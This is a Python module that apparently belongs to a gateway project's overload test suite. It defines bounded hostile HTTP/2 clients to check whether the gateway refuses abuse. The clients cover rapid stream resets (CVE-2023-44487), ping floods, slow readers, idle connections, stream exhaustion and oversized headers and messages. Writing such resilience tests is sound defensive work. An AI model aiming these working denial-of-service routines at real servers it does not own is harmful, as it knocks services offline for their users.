"""Clients that mean harm, each bounded in count and time: functions of an address, seconds and connections."""

import asyncio
import socket
import time
from collections import Counter
from collections.abc import Awaitable, Callable, Mapping
from contextlib import suppress

from gateway.v1 import program_pb2 as pb
from tests.overload.http2 import (
    CANCEL,
    CONTINUATION,
    DATA,
    END_HEADERS,
    FRAME_BYTES_MAX,
    GOAWAY,
    HEADERS,
    PING,
    RST_STREAM,
    Connection,
    frame,
    header_block,
    message,
)
from tests.overload.offers import invoke

RESETS_AT_ONCE = 100
RESETS_PER_S_MAX = 20_000
PINGS_AT_ONCE = 500
PINGS_PER_S_MAX = 50_000
SLOW_CALLS = 600
STREAMS = 1_000
METADATA_BYTES = 64 << 10
BIG_BYTES = 64 << 20
TRIES_PER_S_MAX = 200
Effects = Mapping[str, float]


class Heard:
    """Counts how calls ended."""

    def __init__(self) -> None:
        self.ends: Counter[int] = Counter()

    def ended(self, stream: int, status: int, waited_ms: float) -> None:
        """One call's end."""
        del stream, waited_ms
        self.ends[status] += 1


async def _paced(seconds: float, per_s: float, at_once: int, act: Callable[[], Awaitable[bool]]) -> int:
    """Act so often, no faster, until it says that it cannot; how often it did."""
    began, done = time.perf_counter(), 0
    while (past := time.perf_counter() - began) < seconds:
        if done * at_once >= past * per_s:
            await asyncio.sleep(0.002)
        elif not await act():
            break
        else:
            done += 1
            await asyncio.sleep(0)
    return done


async def rapid_reset(address: str, seconds: float, connections: int) -> Effects:
    """Begin calls and cancel them at once (CVE-2023-44487)."""
    del connections
    heard = Heard()
    made = [await Connection.to(address, heard.ended)]
    block, body = header_block("Invoke"), frame(DATA, 1, 0, message(invoke(0).SerializeToString()))

    async def act() -> bool:
        if made[-1].closed.is_set():
            with suppress(OSError):
                made.append(await Connection.to(address, heard.ended))
        connection, sent = made[-1], list[bytes]()
        for _ in range(RESETS_AT_ONCE):
            stream = connection.begin()
            sent += [frame(HEADERS, END_HEADERS, stream, block), body[:5] + stream.to_bytes(4, "big") + body[9:]]
            sent.append(frame(RST_STREAM, 0, stream, CANCEL.to_bytes(4, "big")))
        connection.send(b"".join(sent))
        return True

    times = await _paced(seconds, RESETS_PER_S_MAX, RESETS_AT_ONCE, act)
    for connection in made:
        connection.close()
    return {"rapid resets": times * RESETS_AT_ONCE}


async def idle_connections(address: str, seconds: float, connections: int) -> Effects:
    """Connect and say nothing."""
    host, _, port = address.rpartition(":")
    sockets: list[socket.socket] = []
    for _ in range(connections):
        one = socket.socket()
        one.setblocking(False)
        sockets.append(one)
        await asyncio.get_running_loop().sock_connect(one, (host, int(port)))
    await asyncio.sleep(seconds)
    for one in sockets:
        one.close()
    return {"idle connections": len(sockets)}


async def slow_readers(address: str, seconds: float, connections: int) -> Effects:
    """Send calls over streams and never make room for the answers."""
    heard, made = Heard(), list[Connection]()
    block = header_block("InvokeStream", [("hutong-deadline-ms", "60000")], timeout_ms=60_000)
    batch = message(pb.InvokeBatch(calls=[pb.InvokeRequest(entity="tallys/none")] * SLOW_CALLS).SerializeToString())
    for _ in range(connections // 2):
        connection = await Connection.to(address, heard.ended, window=0)
        connection.call(block, batch, ends=False)
        made.append(connection)
    await asyncio.sleep(seconds)
    held = sum(len(connection.open) for connection in made)
    for connection in made:
        connection.close()
    return {"slow readers": len(made), "slow readers' streams still held": held}


async def many_streams(address: str, seconds: float, connections: int) -> Effects:
    """A thousand streams over one connection, whatever the gateway said of how many it takes; they stay open."""
    del connections
    heard = Heard()
    connection = await Connection.to(address, heard.ended)
    block = header_block("InvokeStream", [("hutong-deadline-ms", "60000")], timeout_ms=60_000)
    body = message(pb.InvokeBatch(calls=[pb.InvokeRequest(entity="tallys/none")]).SerializeToString())
    for _ in range(STREAMS):
        connection.call(block, body, ends=False)
    await asyncio.sleep(seconds)
    held = len(connection.open)
    connection.close()
    return {"streams over one connection": STREAMS, "streams over one connection, refused": STREAMS - held}


async def ping_flood(address: str, seconds: float, connections: int) -> Effects:
    """Ask far too often whether the gateway is there."""
    del connections
    heard = Heard()
    made = [await Connection.to(address, heard.ended)]

    async def act() -> bool:
        if made[-1].closed.is_set():
            with suppress(OSError):
                made.append(await Connection.to(address, heard.ended))
        made[-1].send(frame(PING, 0, 0, b"whoisit?") * PINGS_AT_ONCE)
        return True

    times = await _paced(seconds, PINGS_PER_S_MAX, PINGS_AT_ONCE, act)
    for connection in made:
        connection.close()
    sent_away = sum(connection.seen[GOAWAY] > 0 for connection in made)
    return {"pings": times * PINGS_AT_ONCE, "connections sent away for pings": sent_away}


async def huge_metadata(address: str, seconds: float, connections: int) -> Effects:
    """Metadata of 64 KiB with each call."""
    del connections
    heard = Heard()
    block = header_block("Invoke", [("hutong-caller", "x" * METADATA_BYTES)])
    parts = [block[start : start + FRAME_BYTES_MAX] for start in range(0, len(block), FRAME_BYTES_MAX)]

    def call(connection: Connection) -> None:
        stream = connection.begin()
        connection.open[stream] = time.perf_counter()
        sent = [frame(HEADERS, 0, stream, parts[0])]
        sent += [frame(CONTINUATION, END_HEADERS if part is parts[-1] else 0, stream, part) for part in parts[1:]]
        connection.send(b"".join(sent))

    return await _refused(address, seconds, heard, call, "calls with huge metadata")


async def huge_messages(address: str, seconds: float, connections: int) -> Effects:
    """The beginning of a message that says it has 64 MiB."""
    del connections
    heard = Heard()
    block = header_block("Invoke")

    def call(connection: Connection) -> None:
        connection.call(block, b"\0" + BIG_BYTES.to_bytes(4, "big") + b"x" * 1_000, ends=False)

    return await _refused(address, seconds, heard, call, "calls with huge messages")


async def _refused(
    address: str, seconds: float, heard: Heard, call: Callable[[Connection], None], name: str
) -> Effects:
    made = [await Connection.to(address, heard.ended)]

    async def act() -> bool:
        if made[-1].closed.is_set():
            with suppress(OSError):
                made.append(await Connection.to(address, heard.ended))
        if len(made[-1].open) < RESETS_AT_ONCE:
            call(made[-1])
        await asyncio.sleep(0.001)
        return True

    times = await _paced(seconds, TRIES_PER_S_MAX, 1, act)
    await asyncio.sleep(0.2)
    for connection in made:
        connection.close()
    return {name: times, f"{name}, refused": sum(count for status, count in heard.ends.items() if status > 0)}


ATTACKS: Mapping[str, Callable[[str, float, int], Awaitable[Effects]]] = {
    "rapid resets": rapid_reset,
    "idle connections": idle_connections,
    "slow readers": slow_readers,
    "many streams": many_streams,
    "a flood of pings": ping_flood,
    "huge metadata": huge_metadata,
    "huge messages": huge_messages,
}
